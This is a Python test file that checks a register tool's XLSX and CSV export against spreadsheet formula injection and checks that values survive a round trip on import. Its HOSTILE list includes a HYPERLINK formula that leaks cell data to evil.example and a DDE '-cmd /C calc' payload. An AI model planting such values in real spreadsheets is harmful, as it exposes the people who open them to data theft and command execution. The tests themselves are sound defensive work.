"""Cells that a spreadsheet would run as formulas are written as text, and read back as typed."""

from __future__ import annotations

import csv
import io

import openpyxl

from dsa.canonical import canonical_json
from dsa.tabular import export_tables, import_register, write_csv_folder, write_xlsx

HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A1,"Click")', "+1", "-2", "@x", "\tx", "\rx", "'=already"]


def _hostile(doc):
    for party, text in zip(doc["parties"], HOSTILE):
        party["name"] = text
    doc["flows"][0]["name"] = HOSTILE[3]
    doc["flows"][1]["name"] = HOSTILE[4]
    doc["flows"][0]["dpia"]["dpo_advice"] = HOSTILE[5]
    doc["flows"][1]["data"]["justification"] = HOSTILE[6]
    doc["partnership"]["description"] = "=1+1"
    doc["clauses"][0]["condition"]["description"] = "-cmd|' /C calc'!A0"
    return doc


def test_xlsx_cells_are_neutralised_and_restored_on_import(minimal_doc, tmp_path):
    doc = _hostile(minimal_doc)
    path = write_xlsx(export_tables(doc, []), tmp_path / "m.xlsx")
    wb = openpyxl.load_workbook(path)  # not read-only: inspect cell types too
    strings = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a formula"
                if isinstance(cell.value, str):
                    strings.append(cell.value)
                    assert cell.value[0] not in "=+-@\t\r", f"{ws.title}!{cell.coordinate} = {cell.value!r}"
    assert "'" + HOSTILE[0] in strings and "'+1" in strings and "'-2" in strings and "'@x" in strings
    assert "''=already" in strings
    assert canonical_json(import_register(path)) == canonical_json(doc)


def test_csv_cells_are_neutralised_and_restored_on_import(minimal_doc, tmp_path):
    doc = _hostile(minimal_doc)
    write_csv_folder(export_tables(doc, []), tmp_path / "csv")
    for path in (tmp_path / "csv").glob("*.csv"):
        text = path.read_text(encoding="utf-8-sig")
        for row in csv.reader(io.StringIO(text, newline="")):
            for cell in row:
                assert not cell or cell[0] not in "=+@\t\r" and not (cell[0] == "-" and not _number(cell)), \
                    (path.name, cell)
    parties = (tmp_path / "csv" / "parties.csv").read_text(encoding="utf-8-sig")
    assert "'+1" in parties and "'-2" in parties
    assert "'@x" in (tmp_path / "csv" / "flows.csv").read_text(encoding="utf-8-sig")
    assert canonical_json(import_register(tmp_path / "csv")) == canonical_json(doc)


def test_negative_numbers_stay_numbers(minimal_doc):
    minimal_doc["assumptions"] = {"x": -1}
    minimal_doc["flows"][0]["risk"] = {"annual_incident_rate": -0.5}  # invalid, but exported as a number
    flows = export_tables(minimal_doc, [])["Flows"]
    assert dict(zip(flows[0], flows[1]))["risk.annual_incident_rate"] == -0.5


def _number(text: str) -> bool:
    try:
        float(text)
        return True
    except ValueError:
        return False
